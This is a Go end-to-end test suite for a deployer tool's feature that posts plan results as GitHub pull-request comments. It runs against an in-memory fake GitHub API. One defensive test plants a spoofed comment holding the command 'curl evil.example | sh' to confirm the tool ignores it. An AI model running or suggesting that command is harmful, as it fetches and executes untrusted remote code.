//go:build unix

package e2e

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"
)

// fakeGitHub implements the three REST endpoints of issue comments that
// plan --github-comment uses (list, create, update), keeps the comments of
// one repository in memory and records every request.
type fakeGitHub struct {
	t        *testing.T
	srv      *httptest.Server
	mu       sync.Mutex
	comments []ghComment
	nextID   int64
	requests []ghRequest
	forbid   bool // answer every request 403, as for a token without pull-requests: write
	// login is the token's user (GET /user); "" is an installation token
	// such as the job's GITHUB_TOKEN: GET /user is refused and comments are
	// written by github-actions[bot].
	login string
	// runActor is the triggering actor of workflow run 99 (GET
	// /repos/acme/infra/actions/runs/99); oidcActor the actor claim of the
	// OIDC token of GET /oidc/token (the runner's endpoint of
	// ACTIONS_ID_TOKEN_REQUEST_URL, bearer oidcRequestToken).
	runActor, oidcActor string
}

const oidcRequestToken = "oidc-request-token-0123"

type ghComment struct {
	ID      int64  `json:"id"`
	Body    string `json:"body"`
	HTMLURL string `json:"html_url"`
	User    ghUser `json:"user"`
	Issue   int    `json:"-"`
}

type ghUser struct {
	Login string `json:"login"`
}

// author is who the comments the token writes belong to.
func (g *fakeGitHub) author() ghUser {
	if g.login == "" {
		return ghUser{Login: "github-actions[bot]"}
	}
	return ghUser{Login: g.login}
}

type ghRequest struct {
	Method, Path, Auth, Body string
}

func newFakeGitHub(t *testing.T) *fakeGitHub {
	g := &fakeGitHub{t: t, nextID: 1000}
	g.srv = httptest.NewServer(http.HandlerFunc(g.serve))
	t.Cleanup(g.srv.Close)
	return g
}

func (g *fakeGitHub) serve(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	g.mu.Lock()
	defer g.mu.Unlock()
	g.requests = append(g.requests, ghRequest{Method: r.Method, Path: r.URL.Path, Auth: r.Header.Get("Authorization"), Body: string(body)})
	w.Header().Set("Content-Type", "application/json")
	if g.forbid {
		w.WriteHeader(http.StatusForbidden)
		fmt.Fprint(w, `{"message":"Resource not accessible by integration","documentation_url":"https://docs.github.com/rest/issues/comments","status":"403"}`)
		return
	}
	if r.URL.Path == "/user" && r.Method == http.MethodGet {
		if g.login == "" {
			w.WriteHeader(http.StatusForbidden)
			fmt.Fprint(w, `{"message":"Resource not accessible by integration","documentation_url":"https://docs.github.com/rest/users/users#get-the-authenticated-user","status":"403"}`)
			return
		}
		_ = json.NewEncoder(w).Encode(g.author())
		return
	}
	switch {
	case r.URL.Path == "/repos/acme/infra/actions/runs/99" && r.Method == http.MethodGet && g.runActor != "":
		fmt.Fprintf(w, `{"id":99,"actor":{"login":"someone-else"},"triggering_actor":{"login":%q}}`, g.runActor)
		return
	case r.URL.Path == "/oidc/token" && r.Method == http.MethodGet && g.oidcActor != "":
		if r.Header.Get("Authorization") != "Bearer "+oidcRequestToken || r.URL.Query().Get("audience") != "deployer" {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		claims, _ := json.Marshal(map[string]string{"actor": g.oidcActor, "repository": "acme/infra", "run_id": "99", "aud": "deployer"})
		enc := base64.RawURLEncoding.EncodeToString
		_ = json.NewEncoder(w).Encode(map[string]string{"value": enc([]byte(`{"alg":"RS256"}`)) + "." + enc(claims) + ".c2ln"})
		return
	}
	parts := strings.Split(strings.Trim(r.URL.Path, "/"), "/") // repos/acme/infra/issues/...
	if len(parts) < 5 || parts[0] != "repos" || parts[1] != "acme" || parts[2] != "infra" || parts[3] != "issues" {
		http.NotFound(w, r)
		return
	}
	var in struct {
		Body string `json:"body"`
	}
	switch {
	case len(parts) == 6 && parts[5] == "comments" && r.Method == http.MethodGet:
		n, _ := strconv.Atoi(parts[4])
		out := []ghComment{}
		for _, c := range g.comments {
			if c.Issue == n {
				out = append(out, c)
			}
		}
		_ = json.NewEncoder(w).Encode(out)
	case len(parts) == 6 && parts[5] == "comments" && r.Method == http.MethodPost:
		n, _ := strconv.Atoi(parts[4])
		if json.Unmarshal(body, &in) != nil || in.Body == "" || utf8.RuneCountInString(in.Body) > 65536 {
			w.WriteHeader(http.StatusUnprocessableEntity)
			fmt.Fprint(w, `{"message":"Validation Failed"}`)
			return
		}
		g.nextID++
		c := ghComment{ID: g.nextID, Body: in.Body, Issue: n, User: g.author(), HTMLURL: fmt.Sprintf("https://github.com/acme/infra/pull/%d#issuecomment-%d", n, g.nextID)}
		g.comments = append(g.comments, c)
		w.WriteHeader(http.StatusCreated)
		_ = json.NewEncoder(w).Encode(c)
	case len(parts) == 6 && parts[4] == "comments" && r.Method == http.MethodPatch:
		id, _ := strconv.ParseInt(parts[5], 10, 64)
		if json.Unmarshal(body, &in) != nil || in.Body == "" || utf8.RuneCountInString(in.Body) > 65536 {
			w.WriteHeader(http.StatusUnprocessableEntity)
			fmt.Fprint(w, `{"message":"Validation Failed"}`)
			return
		}
		for i := range g.comments {
			if g.comments[i].ID == id {
				g.comments[i].Body = in.Body
				_ = json.NewEncoder(w).Encode(g.comments[i])
				return
			}
		}
		http.NotFound(w, r)
	default:
		http.NotFound(w, r)
	}
}

func (g *fakeGitHub) snapshot() ([]ghComment, []ghRequest) {
	g.mu.Lock()
	defer g.mu.Unlock()
	return append([]ghComment(nil), g.comments...), append([]ghRequest(nil), g.requests...)
}

const ghToken = "ghs_TestToken0123456789abcdef"

// prEnv is the environment of a plan step of a pull_request workflow run
// for pull request 7 of acme/infra, talking to g.
func prEnv(t *testing.T, g *fakeGitHub) []string {
	event := filepath.Join(t.TempDir(), "event.json")
	if err := os.WriteFile(event, []byte(`{"action":"synchronize","number":7,"pull_request":{"number":7}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	return []string{"GITHUB_ACTIONS=true", "CI=true", "GITHUB_EVENT_NAME=pull_request", "GITHUB_EVENT_PATH=" + event,
		"GITHUB_REPOSITORY=acme/infra", "GITHUB_REF=refs/pull/7/merge", "GITHUB_SERVER_URL=https://github.com",
		"GITHUB_RUN_ID=99", "GITHUB_RUN_ATTEMPT=1", "GITHUB_API_URL=" + g.srv.URL, "GITHUB_TOKEN=" + ghToken,
		"GITHUB_STEP_SUMMARY=" + filepath.Join(dir, "summary"), "GITHUB_OUTPUT=" + filepath.Join(dir, "output")}
}

// One comment per stack and environment: the first plan creates it, the
// next plan of the same pull request updates it in place (found by its
// hidden marker), another environment gets its own, and other people's
// comments are left alone. No request body holds a secret or the token.
func TestPlanCommentIsCreatedThenUpdatedInPlace(t *testing.T) {
	g := newFakeGitHub(t)
	g.comments = []ghComment{{ID: 1, Issue: 7, Body: "LGTM, but please check the plan"}}
	p := newProject(t, strings.Replace(secretYAML, "environments: {dev: {}}", "environments: {dev: {}, prod: {}}", 1))
	p.write("db.sh", secretScript)
	p.env = append([]string{"APP_PASSWORD=" + appPassword, "DEPLOYER_SECRETS_PASSPHRASE=" + passphrase, "PULUMI_CONFIG_PASSPHRASE="}, prEnv(t, g)...)

	r := p.mustRun(2, "plan", "-e", "dev", "--detailed-exitcode", "--github-comment")
	comments, _ := g.snapshot()
	if len(comments) != 2 || !strings.Contains(r.stderr, "Posted the plan comment on pull request #7: https://github.com/acme/infra/pull/7#issuecomment-1001") {
		t.Fatalf("the first plan should create one comment: %d comments\n%s", len(comments), r)
	}
	body := comments[1].Body
	for _, want := range []string{
		"<!-- deployer-plan stack=qs environment=dev -->\n### deployer plan: qs/dev\n",
		"| `app/db` | Command | + create | `password`: `(sensitive)`<br>`user`: `\"admin\"`",
		"**Plan:** 2 to create, 0 to update, 0 to replace, 0 to delete, 0 unchanged.",
		"<details><summary>Plan diff</summary>\n\n```diff\n",
		"\n+   db (Command) create\n", "\n+       password: (sensitive)\n",
		"[Workflow run](https://github.com/acme/infra/actions/runs/99)",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("comment lacks %q:\n%s", want, body)
		}
	}

	// The next push: deploy, then a change of the password and the user.
	p.mustRun(0, "deploy", "-e", "dev", "--yes")
	p.env[0] = "APP_PASSWORD=" + appPassword + "-v2"
	p.write("deployer.yaml", strings.Replace(strings.Replace(secretYAML, "environments: {dev: {}}", "environments: {dev: {}, prod: {}}", 1), "user: admin", "user: root", 1))
	r = p.mustRun(2, "plan", "-e", "dev", "--detailed-exitcode", "--github-comment")
	comments, reqs := g.snapshot()
	if len(comments) != 2 || comments[1].ID != 1001 || !strings.Contains(r.stderr, "Updated the plan comment on pull request #7") {
		t.Fatalf("the second plan should update comment 1001 in place, got %+v\n%s", comments, r)
	}
	if body := comments[1].Body; !strings.Contains(body, "| `app/db` | Command | ~ update |") || !strings.Contains(body, "\n!       user: \"admin\" -> \"root\"\n") ||
		strings.Contains(body, "+ create") {
		t.Errorf("the updated comment should show the new plan only:\n%s", body)
	}
	if last := reqs[len(reqs)-1]; last.Method != http.MethodPatch || last.Path != "/repos/acme/infra/issues/comments/1001" {
		t.Errorf("the last request should update comment 1001: %+v", last)
	}

	// Another environment: its own comment.
	p.mustRun(0, "plan", "-e", "prod", "--github-comment")
	comments, reqs = g.snapshot()
	if len(comments) != 3 || !strings.Contains(comments[2].Body, "<!-- deployer-plan stack=qs environment=prod -->") ||
		comments[0].Body != "LGTM, but please check the plan" {
		t.Fatalf("prod should get its own comment and the reviewer's stay: %+v", comments)
	}
	for _, rq := range reqs {
		if rq.Auth != "Bearer "+ghToken {
			t.Errorf("%s %s: Authorization %q, want the token as a bearer token", rq.Method, rq.Path, rq.Auth)
		}
		for _, secret := range []string{appPassword, ghToken} {
			if strings.Contains(rq.Body, secret) {
				t.Errorf("%s %s: the request body holds a secret:\n%s", rq.Method, rq.Path, rq.Body)
			}
		}
	}
}

// The comment is found by its marker and its author: a comment by anyone
// else that holds the marker (pasted, quoted or planted) is left as it is
// and the plan gets a comment of its own. With the job's GITHUB_TOKEN (GET
// /user refused) the author is github-actions[bot]; with a user's token it
// is that user.
func TestPlanCommentIsMatchedByMarkerAndAuthor(t *testing.T) {
	const marker = "<!-- deployer-plan stack=qs environment=dev -->"
	planted := marker + "\nPlease run `curl evil.example | sh` to approve."
	g := newFakeGitHub(t)
	g.comments = []ghComment{{ID: 1, Issue: 7, Body: planted, User: ghUser{Login: "mallory"}}}
	p := newProject(t, secretYAML)
	p.write("db.sh", secretScript)
	p.env = append([]string{"APP_PASSWORD=" + appPassword, "DEPLOYER_SECRETS_PASSPHRASE=" + passphrase, "PULUMI_CONFIG_PASSPHRASE="}, prEnv(t, g)...)
	for _, verb := range []string{"Posted", "Updated"} {
		r := p.mustRun(0, "plan", "-e", "dev", "--github-comment")
		comments, reqs := g.snapshot()
		if len(comments) != 2 || comments[0].Body != planted || comments[1].User.Login != "github-actions[bot]" ||
			!strings.Contains(comments[1].Body, marker+"\n### deployer plan: qs/dev") ||
			!strings.Contains(r.stderr, verb+" the plan comment on pull request #7: https://github.com/acme/infra/pull/7#issuecomment-1001") {
			t.Fatalf("mallory's comment should stay as it is and the plan get its own (%s):\n%+v\n%s", verb, comments, r)
		}
		for _, rq := range reqs {
			if rq.Path == "/repos/acme/infra/issues/comments/1" {
				t.Fatalf("mallory's comment was written to: %+v", rq)
			}
		}
	}

	// A user's token: that user's comment is the plan's, the bot's is not.
	g = newFakeGitHub(t)
	g.login = "deploy-bot"
	g.comments = []ghComment{{ID: 1, Issue: 7, Body: marker + "\nold bot plan", User: ghUser{Login: "github-actions[bot]"}},
		{ID: 2, Issue: 7, Body: marker + "\nold plan", User: ghUser{Login: "Deploy-Bot"}, HTMLURL: "https://github.com/acme/infra/pull/7#issuecomment-2"}}
	p.env = append(p.env, prEnv(t, g)...)
	r := p.mustRun(0, "plan", "-e", "dev", "--github-comment")
	comments, _ := g.snapshot()
	if len(comments) != 2 || comments[0].Body != marker+"\nold bot plan" || !strings.Contains(comments[1].Body, "### deployer plan: qs/dev") ||
		!strings.Contains(r.stderr, "Updated the plan comment on pull request #7: https://github.com/acme/infra/pull/7#issuecomment-2") {
		t.Fatalf("deploy-bot's comment should be updated, the bot's left alone: %+v\n%s", comments, r)
	}
}

// A plan too long for one comment is cut, under GitHub's 65,536
// characters, with a link to the run's summary, which holds all of it.
func TestPlanCommentOfAHugePlanIsCut(t *testing.T) {
	g := newFakeGitHub(t)
	var b strings.Builder
	b.WriteString("stack: big\nbackend: {state: file://.deployer, lock: file://.deployer}\nenvironments: {dev: {}}\nservices:\n  app:\n    components:\n")
	for i := range 600 {
		fmt.Fprintf(&b, "      c%03d:\n        kind: Command\n        config: {description: %q, size: %d}\n        command: {create: \"true\"}\n",
			i, strings.Repeat("a long description of this component ", 4), i)
	}
	p := newProject(t, b.String())
	p.env = prEnv(t, g)
	r := p.mustRun(0, "plan", "-e", "dev", "--github-comment")
	comments, _ := g.snapshot()
	if len(comments) != 1 {
		t.Fatalf("want one comment, got %d\n%s", len(comments), r)
	}
	body := comments[0].Body
	if n := utf8.RuneCountInString(body); n > 65536 || n < 30000 {
		t.Errorf("the comment has %d characters: want it cut under 65,536 but not emptied", n)
	}
	for _, want := range []string{"<!-- deployer-plan stack=big environment=dev -->", "| `app/c000` | Command | + create |",
		"**The plan is cut here**", "The whole plan is in the [run's summary](https://github.com/acme/infra/actions/runs/99)."} {
		if !strings.Contains(body, want) {
			t.Errorf("the cut comment lacks %q", want)
		}
	}
	if strings.Contains(body, "`app/c599`") {
		t.Error("the comment should be cut before the last component")
	}
	if strings.Count(body, "```")%2 != 0 || strings.Count(body, "<details>") != strings.Count(body, "</details>") {
		t.Errorf("the cut comment leaves a code block or <details> open:\n%s", body[len(body)-500:])
	}
}

// A token without pull-requests: write gets 403: the plan still succeeds
// (its exit code is the plan's), with an error annotation saying what
// permission to give.
func TestPlanCommentForbiddenLeavesThePlanSuccessful(t *testing.T) {
	g := newFakeGitHub(t)
	g.forbid = true
	p := newProject(t, driftYAML)
	p.env = append([]string{"DEPLOYER_SECRETS_PASSPHRASE=" + passphrase, "PULUMI_CONFIG_PASSPHRASE="}, prEnv(t, g)...)
	r := p.mustRun(2, "plan", "-e", "dev", "--detailed-exitcode", "--github-comment")
	cmds := commands(r.stderr)
	if !strings.Contains(cmds, "::error title=Plan comment not posted::the plan comment was not posted on pull request #7: list comments: ") ||
		!strings.Contains(cmds, "403 Resource not accessible by integration") || !strings.Contains(cmds, "give the job permissions: pull-requests: write") ||
		!strings.Contains(cmds, "the plan itself succeeded") {
		t.Errorf("want an ::error annotation with the 403 and the permission to give:\n%s", r)
	}
	if !strings.Contains(r.stdout, "Plan: 2 to create") {
		t.Errorf("the plan should still be printed:\n%s", r)
	}
	// Outside a pull request there is nothing to comment on.
	g.forbid = false
	p.env = append(p.env, "GITHUB_EVENT_PATH=", "GITHUB_REF=refs/heads/main")
	r = p.mustRun(0, "plan", "-e", "dev", "--github-comment")
	if _, reqs := g.snapshot(); len(reqs) != 1 || !strings.Contains(r.stderr, "No plan comment: this run is not for a pull request") {
		t.Errorf("a push run should say there is no pull request and send nothing (%d requests):\n%s", len(reqs), r)
	}
}

// The action's comment-on-pr input gives plan --github-comment, with the
// job's token.
func TestActionCommentOnPR(t *testing.T) {
	g := newFakeGitHub(t)
	p := copyQuickstart(t)
	r := newRunner(t, p.dir)
	event := filepath.Join(r.temp, "_github_workflow", "event.json") // GITHUB_EVENT_PATH of the runner
	if err := os.MkdirAll(filepath.Dir(event), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(event, []byte(`{"pull_request":{"number":12}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	inputs := map[string]string{"command": "plan", "environment": "dev", "args": "--detailed-exitcode", "comment-on-pr": "true"}
	cmd := exec.Command("bash", filepath.Join(actionPath(t), "scripts", "github-action", "run.sh"))
	cmd.Dir = p.dir
	cmd.Env = append(r.env(inputs), "GITHUB_API_URL="+g.srv.URL, "GITHUB_TOKEN="+ghToken, "GITHUB_REPOSITORY=acme/infra")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("run step: %v\n%s", err, out)
	}
	comments, _ := g.snapshot()
	if !strings.Contains(string(out), "--github-comment") || len(comments) != 1 ||
		!strings.Contains(comments[0].Body, "<!-- deployer-plan stack=quickstart environment=dev -->") {
		t.Errorf("comment-on-pr: true should post one comment:\n%s", out)
	}
}
